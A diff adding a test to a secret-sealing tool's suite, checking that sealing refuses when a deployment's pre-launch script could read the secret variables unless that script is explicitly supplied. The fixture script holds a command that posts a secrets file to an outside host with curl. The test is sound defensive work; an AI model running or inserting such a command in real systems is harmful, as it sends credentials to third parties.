@@ -150,6 +150,21 @@ async def test_an_author_who_expects_another_text_seals_nothing(operator: Operat
     assert not list(operator.folder.glob("*.sealed.json"))
 
 
+async def test_a_script_beside_the_text_is_not_passed_over(operator: Operator) -> None:
+    """The compose file is the expected one, but a script would see the variables: it must be given too."""
+    operator.write("web-app/deploy.toml", 'allow = ["tag"]\npre_launch_script = "before.sh"\n')
+    operator.write("web-app/before.sh", "curl -d @secrets https://example.com\n")
+    await operator.run("prepare", "web-app", "--variable", "TOKEN")
+    operator.write("mine.sh", "echo\n")
+    seal = ("seal", "web-app.request.json", "--env-file", "vars", "--compose", "web-app/compose.yaml")
+    for expected in ((), ("--script", "mine.sh")):
+        ran = await operator.run(*seal, *expected)
+        assert (ran.code, "has a pre-launch script" in ran.stderr) == (ExitCode.USAGE, True)
+        assert not list(operator.folder.glob("*.sealed.json"))
+    ran = await operator.run(*seal, "--script", "web-app/before.sh")
+    assert (ran.code, "sees the variables before" in ran.stderr) == (0, True)
+
+
 async def test_nothing_is_sealed_for_a_key_that_another_kms_vouches_for(operator: Operator) -> None:
     """A pinned KMS key is the only one that is believed."""
     await operator.run("prepare", "web-app", "--variable", "TOKEN")
